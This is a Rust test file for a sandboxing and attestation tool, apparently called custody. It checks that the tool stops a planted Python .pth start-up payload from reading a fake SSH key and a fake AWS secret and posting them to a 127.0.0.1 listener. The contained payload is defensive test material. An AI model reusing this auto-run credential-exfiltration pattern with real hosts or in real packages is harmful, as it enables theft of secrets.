//! `custody run`: control and treatment with a harmless credential-stealing
//! `.pth` of our own (it sends only to a listener on 127.0.0.1), a private
//! loopback, closed descriptors, and a run as an ordinary user. The escape
//! probes are in `run_escape_*.rs` and `run_record.rs`.

#![allow(clippy::unwrap_used, clippy::disallowed_methods, reason = "tests")]

mod common;

use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::{Arc, Mutex};

use common::{Run, custody_run, run};

const FAKE_KEY: &str = "FAKE-PRIVATE-KEY-custody-test";
const FAKE_AWS: &str = "FAKE-AWS-SECRET-custody-test";

/// A listener on 127.0.0.1 that keeps everything it receives.
fn listener() -> (u16, Arc<Mutex<Vec<u8>>>) {
    common::sandbox::tcp_listener()
}

/// A virtual environment whose start-up runs our payload, a planted key
/// in a fake HOME, and an input file.
struct World {
    dir: tempfile::TempDir,
}

impl World {
    fn new(port: u16) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let w = Self { dir };
        let ok = Command::new("python3")
            .args(["-m", "venv", "--without-pip"])
            .arg(w.p("venv"))
            .status()
            .unwrap()
            .success();
        assert!(ok, "python3 -m venv failed");
        let site = glob_site(&w.p("venv"));
        let planted = w.p("home/.ssh/id_rsa");
        std::fs::create_dir_all(planted.parent().unwrap()).unwrap();
        std::fs::write(&planted, FAKE_KEY).unwrap();
        std::fs::write(
            site.join("zz_custody_test.pth"),
            "import zz_custody_test_payload\n",
        )
        .unwrap();
        // An installed distribution, for the attestation's package list.
        let dist = site.join("demo_pkg-1.2.3.dist-info");
        std::fs::create_dir_all(&dist).unwrap();
        std::fs::write(
            dist.join("METADATA"),
            "Metadata-Version: 2.1\nName: demo-pkg\nVersion: 1.2.3\n",
        )
        .unwrap();
        std::fs::write(dist.join("RECORD"), "").unwrap();
        std::fs::write(
            site.join("zz_custody_test_payload.py"),
            format!(
                r#"# Harmless test payload: reads a planted fake key and a planted
# variable and sends them to a listener on 127.0.0.1 only.
import os, sys, urllib.request
seen = {{}}
for p in (os.path.expanduser("~/.ssh/id_rsa"), {planted:?}):
    try:
        seen[p] = open(p).read()
    except Exception as e:
        seen[p] = "ERR " + type(e).__name__
seen["aws"] = os.environ.get("AWS_SECRET_ACCESS_KEY")
try:
    urllib.request.urlopen(urllib.request.Request("http://127.0.0.1:{port}/x", data=repr(seen).encode()), timeout=3)
    seen["sent"] = "yes"
except Exception as e:
    seen["sent"] = "ERR " + type(e).__name__
print("PAYLOAD", repr(seen), file=sys.stderr)
"#,
                planted = planted.to_str().unwrap()
            ),
        )
        .unwrap();
        std::fs::write(w.p("in.txt"), "curated records\n").unwrap();
        std::fs::write(
            w.p("step.py"),
            "import sys\nopen(sys.argv[2], 'w').write(open(sys.argv[1]).read().upper())\n",
        )
        .unwrap();
        w
    }

    fn p(&self, rel: &str) -> PathBuf {
        self.dir.path().join(rel)
    }

    fn s(&self, rel: &str) -> String {
        self.p(rel).to_str().unwrap().to_owned()
    }

    fn python(&self) -> String {
        self.s("venv/bin/python")
    }
}

fn glob_site(venv: &Path) -> PathBuf {
    let lib = venv.join("lib");
    let py = std::fs::read_dir(&lib)
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path();
    py.join("site-packages")
}

#[test]
fn control_and_treatment() {
    let (port, got) = listener();
    let w = World::new(port);
    // Control: the step run plainly. The payload steals and sends.
    let out = Command::new(w.python())
        .args([w.s("step.py"), w.s("in.txt"), w.s("control.txt")])
        .env("HOME", w.p("home"))
        .env("AWS_SECRET_ACCESS_KEY", FAKE_AWS)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    std::thread::sleep(std::time::Duration::from_millis(300));
    let received = String::from_utf8_lossy(&got.lock().unwrap()).into_owned();
    assert!(
        received.contains(FAKE_KEY) && received.contains(FAKE_AWS),
        "control: {received}"
    );
    got.lock().unwrap().clear();

    // Treatment: the same step under custody run.
    assert_eq!(
        custody_run(w.dir.path(), &["key", "generate", "-o", &w.s("lab")]).code,
        0
    );
    let py = w.python();
    let (input, output, key, att, step) = (
        w.s("in.txt"),
        w.s("out.txt"),
        w.s("lab.key"),
        w.s("att.json"),
        w.s("step.py"),
    );
    let r = run(common::custody(w.dir.path())
        .args([
            "run", "--input", &input, "--input", &step, "--output", &output, "-k", &key,
            "--attest", &att, "--", &py, &step, &input, &output,
        ])
        .env("HOME", w.p("home"))
        .env("AWS_SECRET_ACCESS_KEY", FAKE_AWS));
    assert_eq!(r.code, 0, "the step's work still succeeds: {}", r.stderr);
    assert_eq!(
        std::fs::read_to_string(w.p("out.txt")).unwrap(),
        "CURATED RECORDS\n"
    );
    std::thread::sleep(std::time::Duration::from_millis(300));
    assert!(
        got.lock().unwrap().is_empty(),
        "the listener received nothing"
    );
    let payload = r
        .stderr
        .lines()
        .find(|l| l.starts_with("PAYLOAD"))
        .unwrap_or_default();
    assert!(!payload.contains(FAKE_KEY), "key unreadable: {payload}");
    assert!(
        payload.contains("ERR PermissionError"),
        "the planted key is denied: {payload}"
    );
    assert!(
        payload.contains("'aws': None"),
        "variable absent: {payload}"
    );
    assert!(
        payload.contains("'sent': 'ERR"),
        "sending failed: {payload}"
    );

    // Which permission was denied, in words, on stderr.
    let planted = w.s("home/.ssh/id_rsa");
    assert!(
        r.stderr
            .contains(&format!("connect  127.0.0.1:{port} [network]")),
        "{}",
        r.stderr
    );
    assert!(
        r.stderr
            .contains(&format!("open     {planted} [credential]")),
        "{}",
        r.stderr
    );
    check_attestation(&w, &output, &input);
    check_attempts(&w, port);
}

/// The treatment run's signed envelope and the statement inside it.
fn attestation(w: &World) -> (serde_json::Value, serde_json::Value) {
    let env: serde_json::Value =
        serde_json::from_slice(&std::fs::read(w.p("att.json")).unwrap()).unwrap();
    (env, common::sandbox::payload(&w.p("att.json")))
}

/// The supervisor's record in the attestation: the planted key's open,
/// the connect to the listener with its destination, and the executions.
fn check_attempts(w: &World, port: u16) {
    let (_, st) = attestation(w);
    let by = st["predicate"]["runDetails"]["byproducts"]
        .as_array()
        .unwrap();
    let attempts = by.iter().find(|b| b["name"] == "attempts").unwrap()["annotations"]["attempts"]
        .as_array()
        .unwrap();
    let find = |call: &str, target: &str| {
        attempts
            .iter()
            .find(|a| a["call"] == call && a["target"] == target)
            .unwrap_or_else(|| panic!("{call} {target} not in {attempts:#?}"))
    };
    let key = find("open", &w.s("home/.ssh/id_rsa"));
    assert_eq!(key["reason"], "credential");
    assert_eq!(key["outcome"], "denied");
    let net = find("connect", &format!("127.0.0.1:{port}"));
    assert_eq!(net["reason"], "network");
    assert_eq!(net["outcome"], "denied");
    assert!(net["pid"].as_u64().unwrap() > 1);
    // An execution is named by the file it runs, and the link it went
    // through (the venv's python links to its base interpreter).
    let exec = attempts
        .iter()
        .find(|a| {
            a["call"] == "exec"
                && a["target"]
                    .as_str()
                    .unwrap()
                    .ends_with(&format!("(via {})", w.python()))
        })
        .unwrap_or_else(|| panic!("exec of {} not in {attempts:#?}", w.python()));
    assert_eq!(exec["outcome"], "allowed");
    let enforced = &by[0]["annotations"]["enforced"];
    assert_eq!(enforced["observed"], true);
    assert_eq!(enforced["internet_sockets"], "unconnected-tcp");
}

/// A step that serves and connects on its own loopback, then tries the
/// machine's loopback and a unix socket.
const LOOPBACK_STEP: &str = r#"
import socket, sys, threading
srv = socket.create_server(("127.0.0.1", 0))
def serve():
    c, _ = srv.accept(); c.sendall(c.recv(100).upper()); c.close()
threading.Thread(target=serve, daemon=True).start()
c = socket.create_connection(srv.getsockname()); c.sendall(b"ping")
print("OWN", c.recv(100).decode())
try:
    socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=2); print("HOST REACHED")
except OSError as e:
    print("HOST", type(e).__name__)
try:
    socket.socket(socket.AF_UNIX); print("UNIX MADE")
except OSError as e:
    print("UNIX", type(e).__name__)
"#;

/// Checks a `--net loopback` run of [`LOOPBACK_STEP`] against `port`, a
/// listener on the machine's 127.0.0.1 that must hear nothing.
fn check_loopback(r: &Run, got: &Mutex<Vec<u8>>) {
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(
        r.stdout.contains("OWN PING"),
        "its own loopback works: {}",
        r.stdout
    );
    assert!(
        r.stdout.contains("HOST ConnectionRefusedError"),
        "the machine's loopback is another network: {}",
        r.stdout
    );
    assert!(r.stdout.contains("UNIX PermissionError"), "{}", r.stdout);
    assert!(
        r.stderr.contains("socket   unix/stream [network]"),
        "{}",
        r.stderr
    );
    std::thread::sleep(std::time::Duration::from_millis(100));
    assert!(got.lock().unwrap().is_empty());
}

#[test]
fn loopback_is_private() {
    let (port, got) = listener();
    let w = World::new(port);
    std::fs::write(w.p("lo.py"), LOOPBACK_STEP).unwrap();
    let (script, att) = (w.s("lo.py"), w.s("lo.att.json"));
    let r = run(common::custody(w.dir.path()).args([
        "run",
        "--net",
        "loopback",
        "--input",
        &script,
        "--attest",
        &att,
        "--",
        "/usr/bin/python3",
        &script,
        &port.to_string(),
    ]));
    check_loopback(&r, &got);
    let st: serde_json::Value =
        serde_json::from_slice(&std::fs::read(w.p("lo.att.json")).unwrap()).unwrap();
    let by = &st["predicate"]["runDetails"]["byproducts"];
    let enforced = &by[0]["annotations"]["enforced"];
    assert_eq!(enforced["net"], "loopback");
    assert_eq!(enforced["internet_sockets"], "private-loopback");
    assert!(
        enforced["namespaces"]
            .as_array()
            .unwrap()
            .contains(&"network".into())
    );
    let attempts = by[2]["annotations"]["attempts"].as_array().unwrap();
    let host = attempts
        .iter()
        .find(|a| a["call"] == "connect" && a["target"] == format!("127.0.0.1:{port}"))
        .unwrap_or_else(|| panic!("{attempts:#?}"));
    assert_eq!(
        host["outcome"], "allowed",
        "recorded, and refused by the namespace"
    );
}

/// A descriptor the caller leaves open without close-on-exec does not
/// reach the step: the control sees it, the step does not.
#[test]
fn inherited_descriptors_are_closed() {
    let w = World::new(9);
    // Fd 7 is the caller's; no other descriptor may be open either (the
    // seccomp listener above all: with it the step could answer its own
    // trapped calls).
    let code = "import os\nopen_fds = []\nfor fd in range(3, 1024):\n    try:\n        os.fstat(fd); open_fds.append(fd)\n    except OSError:\n        pass\nprint('FD7 OPEN' if 7 in open_fds else 'FD7 CLOSED', 'OPEN', open_fds)";
    let py = w.python();
    let custody = common::custody_bin();
    let shell = |inner: &str| {
        let out = Command::new("bash")
            .arg("-c")
            .arg(format!("exec 7</etc/hostname; {inner}"))
            .arg("step")
            .arg(&py)
            .arg(code)
            .arg(&custody)
            .current_dir(w.dir.path())
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    assert!(shell(r#""$1" -c "$2""#).contains("FD7 OPEN"), "control");
    let out = shell(r#""$3" run -- "$1" -c "$2""#);
    assert!(out.contains("FD7 CLOSED OPEN []"), "{out}");
}

/// The attestation of the treatment run: signed, outputs as subjects, what
/// was enforced; and `custody verify` of the output against it.
fn check_attestation(w: &World, output: &str, input: &str) {
    let att = w.s("att.json");
    // The attestation: signed, outputs as subjects, what was enforced.
    let (env, st) = attestation(w);
    assert_eq!(st["predicateType"], "https://slsa.dev/provenance/v1");
    assert_eq!(st["subject"][0]["name"], output);
    assert_eq!(
        st["subject"][0]["digest"]["sha256"].as_str().unwrap().len(),
        64
    );
    let by = &st["predicate"]["runDetails"]["byproducts"];
    assert_eq!(by[0]["annotations"]["enforced"]["landlock"], "full");
    assert_eq!(by[1]["annotations"]["code"], 0);
    let deps = st["predicate"]["buildDefinition"]["resolvedDependencies"]
        .as_array()
        .unwrap();
    assert!(
        deps.iter().any(|d| d["uri"] == "pkg:pypi/demo-pkg@1.2.3"),
        "the step's Python packages as purls: {deps:?}"
    );
    let pubkey =
        custody_seal::keys::PublicKey::from_pem(&std::fs::read_to_string(w.p("lab.pub")).unwrap())
            .unwrap();
    let envelope: custody_seal::dsse::Envelope = serde_json::from_value(env).unwrap();
    assert!(
        envelope.verify(&[pubkey]).is_ok(),
        "verifies with the seal code"
    );
    // And through `custody verify`: the output matches its subject digest.
    let public = w.s("lab.pub");
    let r = custody_run(
        w.dir.path(),
        &["verify", output, "-m", &att, "--key", &public],
    );
    assert_eq!(r.code, 0, "{} {}", r.stdout, r.stderr);
    std::fs::write(w.p("out.txt"), "CURATED RECORDS, ALTERED\n").unwrap();
    let r = custody_run(
        w.dir.path(),
        &["verify", output, "-m", &att, "--key", &public],
    );
    assert_eq!(r.code, 1, "{}", r.stdout);
    assert!(r.stdout.contains("modified"), "{}", r.stdout);
    let r = custody_run(
        w.dir.path(),
        &["verify", input, "-m", &att, "--key", &public],
    );
    assert_eq!(r.code, 1, "an input is not a subject: {}", r.stdout);
}

/// The sandbox needs no privileges: when the suite runs as root, the same
/// step runs again as `nobody` (uid 65534) through `setpriv`.
#[test]
fn works_as_an_ordinary_user() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::set_permissions(
        dir.path(),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    let input = dir.path().join("in.txt");
    let output = dir.path().join("out.txt");
    std::fs::write(&input, "records\n").unwrap();
    std::fs::write(&output, "").unwrap();
    std::fs::set_permissions(&output, std::os::unix::fs::PermissionsExt::from_mode(0o666)).unwrap();
    let python = Path::new("/usr/bin/python3");
    assert!(
        python.exists(),
        "this test needs the system's /usr/bin/python3"
    );
    let code = format!(
        "import os; open({o:?}, 'w').write(open({i:?}).read().upper() + str(os.getuid()))",
        o = output.to_str().unwrap(),
        i = input.to_str().unwrap()
    );
    // A copy nobody can execute: the build tree may sit in a private
    // folder (CI clones into `mktemp -d`, mode 0700).
    let custody_copy = dir.path().join("custody");
    std::fs::copy(common::custody_bin(), &custody_copy).unwrap();
    std::fs::set_permissions(
        &custody_copy,
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    let custody = custody_copy.to_str().unwrap();
    let root = common::sandbox::is_root();
    let mut cmd = as_nobody(root, custody);
    cmd.args([
        "run",
        "--input",
        input.to_str().unwrap(),
        "--output",
        output.to_str().unwrap(),
        "--",
    ])
    .args([python.to_str().unwrap(), "-c", &code]);
    let r = run(&mut cmd);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stderr.contains("Landlock full"), "{}", r.stderr);
    let out = std::fs::read_to_string(&output).unwrap();
    assert!(out.starts_with("RECORDS\n"), "{out}");
    if root {
        assert!(out.ends_with("65534"), "ran as nobody: {out}");
    }
    // A private loopback, made inside a user namespace.
    let (port, got) = listener();
    let script = dir.path().join("lo.py");
    std::fs::write(&script, LOOPBACK_STEP).unwrap();
    let script = script.to_str().unwrap();
    let mut cmd = as_nobody(root, custody);
    cmd.args(["run", "--net", "loopback", "--input", script, "--"])
        .args([python.to_str().unwrap(), script, &port.to_string()]);
    check_loopback(&run(&mut cmd), &got);
}

fn as_nobody(root: bool, custody: &str) -> Command {
    if root {
        let mut c = Command::new("setpriv");
        c.args(["--reuid=65534", "--regid=65534", "--clear-groups", custody]);
        c
    } else {
        Command::new(custody)
    }
}

/// When the suite runs as root, every other test of this file runs again
/// as `nobody` (uid 65534).
#[test]
fn the_suite_passes_as_an_ordinary_user() {
    common::sandbox::rerun_as_nobody("the_suite_passes_as_an_ordinary_user", 4);
}
